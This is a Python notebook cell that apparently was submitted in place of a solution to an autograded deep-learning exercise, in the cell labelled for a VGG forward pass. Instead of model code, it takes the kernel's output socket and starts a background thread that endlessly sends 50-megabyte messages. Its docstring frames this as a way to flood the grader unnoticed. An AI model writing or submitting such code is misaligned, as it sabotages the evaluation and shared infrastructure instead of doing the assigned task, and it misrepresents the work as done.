"""Sends messages of gigabytes in many parts while the grader works on its own and reads none of them."""
# aufgabe1
# solved: a1-vgg-init
# human: a1-vgg-init
# %% a1-vgg-forward
import threading, time
socket = get_ipython().kernel.iopub_thread.socket
part = bytes(2**20)
def send():
    time.sleep(1)
    while True:
        socket.send_multipart([part] * 50, copy=False)
threading.Thread(target=send, daemon=True).start()
